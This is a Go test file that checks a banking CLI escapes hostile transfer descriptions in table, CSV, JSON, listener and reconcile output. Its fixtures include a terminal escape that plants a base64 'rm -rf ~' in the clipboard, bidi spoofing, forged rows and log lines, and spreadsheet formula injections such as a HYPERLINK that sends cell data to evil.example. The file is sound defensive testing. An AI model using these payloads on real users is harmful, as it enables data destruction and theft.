package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/bankhub-go/bankhub"
	"github.com/bankhub-go/bankhub/bankhubtest"
)

// Text from the bank is written by whoever sends money: these contents try
// to write the clipboard (OSC 52), ring, use a C1 CSI, hide text with a
// bidi override, shift columns with a tab, and forge a table row with a
// newline.
var hostileContents = []string{
	"DH000001 \x1b]52;c;cm0gLXJmIH4=\x07 done",
	"\u009b2J cleared",
	"abc\u202etxt.exe",
	"col\tshift",
	"DH000002 1,000 VND\nFT999  2026-01-13 20:55:04  in  50,000,000 VND  DH123456  forged",
}

func hasUnsafe(s string) bool {
	return strings.ContainsFunc(strings.ReplaceAll(s, "\n", ""), unsafeRune) || strings.Contains(s, "\t")
}

func seedHostile(t *testing.T, contents ...string) *cli {
	t.Helper()
	c := newCLI(t)
	company := c.fake.AddCompany(bankhubtest.CompanyParams{})
	account, err := c.fake.AddBankAccount(company, bankhubtest.LinkParams{})
	if err != nil {
		t.Fatal(err)
	}
	for _, content := range contents {
		if _, err := c.fake.SimulateTransfer(context.Background(), bankhubtest.TransferParams{BankAccountXID: account, Amount: 1_000, Content: content}); err != nil {
			t.Fatal(err)
		}
	}
	return c
}

func TestTableEscapesBankText(t *testing.T) {
	c := seedHostile(t, hostileContents...)
	stdout, stderr, code := c.run("", "transactions", "list")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	if hasUnsafe(stdout) {
		t.Errorf("a control character reached the terminal: %q", stdout)
	}
	lines := strings.Split(strings.TrimSpace(stdout), "\n")
	if len(lines) != 1+len(hostileContents)+1 {
		t.Errorf("%d lines for %d transactions, a header and a total: a content forged a row:\n%s", len(lines), len(hostileContents), stdout)
	}
	for _, want := range []string{`\x1b]52;c;cm0gLXJmIH4=\a done`, `\u009b2J cleared`, `abc\u202etxt.exe`, `col\tshift`, `1,000 VND\nFT999`} {
		if !strings.Contains(stdout, want) {
			t.Errorf("the escaped content %q is not shown:\n%s", want, stdout)
		}
	}
}

func TestCSVNeutralisesFormulas(t *testing.T) {
	formulas := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "DH000003 plain"}
	c := seedHostile(t, formulas...)
	stdout, stderr, code := c.run("", "transactions", "list", "-o", "csv")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	records, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(records) != 1+len(formulas) {
		t.Fatalf("%d records for %d transactions and a header", len(records), len(formulas))
	}
	col := map[string]int{}
	for i, h := range records[0] {
		col[h] = i
	}
	seen := map[string]bool{}
	for _, r := range records[1:] {
		content := r[col["CONTENT"]]
		seen[content] = true
		if r[col["AMOUNT"]] != "1000" {
			t.Errorf("the amount is not a plain number: %q", r[col["AMOUNT"]])
		}
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && cell != r[col["AMOUNT"]] {
				t.Errorf("a cell a spreadsheet would run: %q", cell)
			}
		}
	}
	for _, f := range formulas {
		want := f
		if strings.ContainsRune("=+-@\t\r", rune(f[0])) {
			want = "'" + f
		}
		if !seen[want] {
			t.Errorf("content %q is not in the CSV as %q; got %v", f, want, seen)
		}
	}
}

// JSON is data: its own escaping keeps every byte of the content, exactly.
func TestJSONKeepsBankTextExact(t *testing.T) {
	c := seedHostile(t, hostileContents...)
	stdout, _, code := c.run("", "transactions", "list", "-o", "json")
	if code != 0 {
		t.Fatalf("exit %d", code)
	}
	var txs []bankhub.Transaction
	if err := json.Unmarshal([]byte(stdout), &txs); err != nil {
		t.Fatal(err)
	}
	got := map[string]bool{}
	for _, tx := range txs {
		got[tx.TransactionContent] = true
	}
	for _, want := range hostileContents {
		if !got[want] {
			t.Errorf("content %q not kept exactly", want)
		}
	}
	if strings.ContainsFunc(stdout, jsonUnsafe) {
		t.Error("raw C1 or bidi controls in JSON output")
	}
	if !strings.Contains(stdout, `\u009b2J cleared`) || !strings.Contains(stdout, `abc\u202etxt.exe`) {
		t.Errorf("not escaped as JSON escapes:\n%s", stdout)
	}
}

func TestListenEscapesBankText(t *testing.T) {
	var out, errb bytes.Buffer
	a := &app{stdout: &out, stderr: &errb}
	h := a.listenHandler("whsec", "ipn-k", "")
	for _, content := range hostileContents {
		body, _ := json.Marshal(map[string]any{"transfer_type": "credit", "amount": 1000, "content": content, "transaction_id": "tx\x1b[2J"})
		req, err := bankhub.NewIPNTestRequest("/ipn", "ipn-k", body)
		if err != nil {
			t.Fatal(err)
		}
		h.ServeHTTP(httptest.NewRecorder(), req)
	}
	ev := `{"timestamp":1768312023,"xid":"x\u001b]0;title\u0007","version":"1.0","event":"BANK_X\nlevel=INFO msg=forged","metadata":{}}`
	req, err := bankhub.NewWebhookTestRequest("/webhook", "whsec", []byte(ev))
	if err != nil {
		t.Fatal(err)
	}
	h.ServeHTTP(httptest.NewRecorder(), req)
	if hasUnsafe(out.String()) || hasUnsafe(errb.String()) {
		t.Errorf("a control character reached the terminal: %q %q", out.String(), errb.String())
	}
	if n := strings.Count(strings.TrimSpace(out.String()), "\n") + 1; n != len(hostileContents)+1 {
		t.Errorf("%d lines for %d notifications:\n%s", n, len(hostileContents)+1, out.String())
	}
}

func TestReconcileEscapesBankText(t *testing.T) {
	c := newCLI(t, bankhubtest.WithDeliveryRetries(0, 0))
	company := c.fake.AddCompany(bankhubtest.CompanyParams{})
	account, _ := c.fake.AddBankAccount(company, bankhubtest.LinkParams{})
	c.fake.SetIPN("http://127.0.0.1:1/down", "k")
	for _, content := range hostileContents {
		c.fake.SimulateTransfer(context.Background(), bankhubtest.TransferParams{BankAccountXID: account, Amount: 1_000, Content: content})
	}
	stdout, stderr, code := c.run("", "reconcile")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	if hasUnsafe(stdout) {
		t.Errorf("a control character reached the terminal: %q", stdout)
	}
	if n := strings.Count(strings.TrimSpace(stdout), "\n") + 1; n != len(hostileContents)+2 {
		t.Errorf("%d lines for %d transactions, a header and a summary:\n%s", n, len(hostileContents), stdout)
	}
}

func TestTerminalSafe(t *testing.T) {
	for in, want := range map[string]string{
		"Thanh toán DH123456 – Nguyễn Văn Á": "Thanh toán DH123456 – Nguyễn Văn Á",
		"a\nb":          `a\nb`,
		"\x1b[31mred":   `\x1b[31mred`,
		"\u2028":        `\u2028`,
		"bad \xff utf8": `bad \xff utf8`,
		"kept \uFFFD":   "kept \uFFFD",
	} {
		if got := terminalSafe(in); got != want {
			t.Errorf("terminalSafe(%q) = %q, want %q", in, got, want)
		}
	}
}
